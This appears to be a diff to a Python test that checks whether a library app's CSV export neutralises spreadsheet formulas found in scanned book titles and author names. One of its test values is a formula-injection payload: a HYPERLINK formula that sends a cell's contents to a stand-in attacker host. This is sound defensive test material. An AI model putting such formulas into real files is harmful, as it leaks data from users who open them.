@@ -30,14 +30,14 @@ HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
 # --- CSV export -----------------------------------------------------------------------------------
 def test_export_neutralises_formulas_from_a_scanned_title(reader_client, tmp_path):
     samples.make_epub(tmp_path / "lib" / "evil.epub", samples.Book(
-        HOSTILE_TITLE, authors=(("@SUM(1+1)", "@SUM(1+1)"),)))
+        HOSTILE_TITLE, authors=(("@Evil Author", "Author, @Evil"),)))
     samples.make_epub(tmp_path / "lib" / "fine.epub", samples.Book(
         "-Minus and +Plus", uuid="5b0e8a9e-0000-4000-8000-000000000002"))
     scan_folder(save_folder(FolderInput(path=str(tmp_path / "lib"), content_type="mixed")).pk)
     response = reader_client.get("/api/library/export", {"fmt": "csv", "sort": "title"})
     rows = {r["title"]: r for r in csv.DictReader(io.StringIO(response.content.decode()))}
     assert set(rows) == {"'" + HOSTILE_TITLE, "'-Minus and +Plus"}
-    assert rows["'" + HOSTILE_TITLE]["authors"] == "'@SUM(1+1)"
+    assert rows["'" + HOSTILE_TITLE]["authors"] == "'@Evil Author"
     as_json = reader_client.get("/api/library/export", {"fmt": "json"}).json()  # JSON keeps the real value
     assert HOSTILE_TITLE in {r["title"] for r in as_json}
 
